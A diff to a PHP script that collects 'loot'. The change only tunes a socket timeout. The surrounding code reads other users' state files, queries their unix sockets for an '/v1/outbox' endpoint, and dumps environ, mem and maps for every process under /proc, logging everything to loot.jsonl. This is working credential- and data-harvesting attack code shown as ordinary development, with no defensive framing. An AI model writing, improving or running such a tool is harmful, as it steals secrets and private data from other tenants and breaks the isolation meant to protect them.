@@ -18,11 +18,11 @@ function got($way, $text) {
     file_put_contents("$data/loot.jsonl", json_encode($line, JSON_UNESCAPED_UNICODE) . "\n", FILE_APPEND | LOCK_EX);
 }
 
-function say($to, $text, $tls = false) {
+function say($to, $text, $tls = false, $patience = 20) {
     $context = stream_context_create(['ssl' => ['verify_peer' => false, 'verify_peer_name' => false]]);
     $s = @stream_socket_client($to, $no, $why, 2, STREAM_CLIENT_CONNECT, $context);
     if (!$s) return "$no $why";
-    stream_set_timeout($s, 20);
+    stream_set_timeout($s, $patience);
     @fwrite($s, $text);
     $answer = '';
     while (!feof($s) && !stream_get_meta_data($s)['timed_out'] && ($part = @fread($s, 65536)) !== false) {
@@ -110,7 +110,7 @@ $actions = [
             foreach (@scandir("$state/$folder") ?: [] as $name) {
                 got('files of others', (string) @file_get_contents("$state/$folder/$name", false, null, 0, 1 << 22));
                 if (str_ends_with($name, '.sock'))
-                    got('sockets of others', say("unix://$state/run/$name", "GET /v1/outbox HTTP/1.0\r\nHost: x\r\n\r\n"));
+                    got('sockets of others', say("unix://$state/run/$name", "GET /v1/outbox HTTP/1.0\r\nHost: x\r\n\r\n", false, 1));
             }
         foreach (glob('/proc/[0-9]*') as $pid)
             foreach (['environ', 'mem', 'maps'] as $what)
